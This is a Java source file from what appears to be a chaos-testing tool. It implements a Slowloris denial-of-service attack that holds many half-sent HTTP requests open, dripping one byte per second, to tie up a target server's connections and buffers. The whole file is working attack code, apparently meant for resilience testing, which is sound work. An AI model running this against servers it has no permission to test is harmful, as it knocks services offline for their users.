package com.topcoins.chaos.attack;

import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * Slowloris: many connections that each send the start of a request and then one more header byte per second,
 * never the blank line that ends the head, so the server keeps a half-read request (and its buffers) per
 * connection for as long as it lets the connection live.
 */
final class Slowloris extends HeldConnections {

    private static final Duration DRIP = Duration.ofSeconds(1);

    private final byte[] preamble;
    private final AttackKind kind;

    Slowloris(Target target, int connections, int opensPerSecond, Duration connectTimeout, AttackKind kind) {
        super(target, connections, opensPerSecond, connectTimeout, null);
        this.kind = kind;
        this.preamble = Target.ascii("GET /?limit=1 HTTP/1.1\r\nHost: " + target.hostHeader() + "\r\nX-a: ");
    }

    @Override
    public AttackKind kind() {
        return kind;
    }

    @Override
    void onConnected(Conn conn) throws java.io.IOException {
        conn.key.interestOps(SelectionKey.OP_READ);
        conn.pending = ByteBuffer.wrap(preamble);
        conn.nextTick = System.nanoTime() + DRIP.toNanos();
        flush(conn);
    }

    @Override
    void onTick(Conn conn, long now) throws java.io.IOException {
        if (now < conn.nextTick) {
            return;
        }
        conn.nextTick = now + DRIP.toNanos();
        if (conn.pending == null) {
            conn.pending = ByteBuffer.wrap(new byte[] {'b'});
        }
        if (flush(conn)) {
            conn.key.interestOps(SelectionKey.OP_READ);
        }
    }

    @Override
    public AttackReport report() {
        List<Counter> counters = new ArrayList<>(connectionCounters());
        return new AttackReport(counters, List.of(), 0, 0);
    }

    @Override
    public String progress() {
        return "open %d (max %d), attempted %d, closed by server %d, refused %d, failed %d"
                .formatted(
                        open.get(), maxOpen.get(), attempted.get(), closedByServer.get(), refused.get(), failed.get());
    }
}
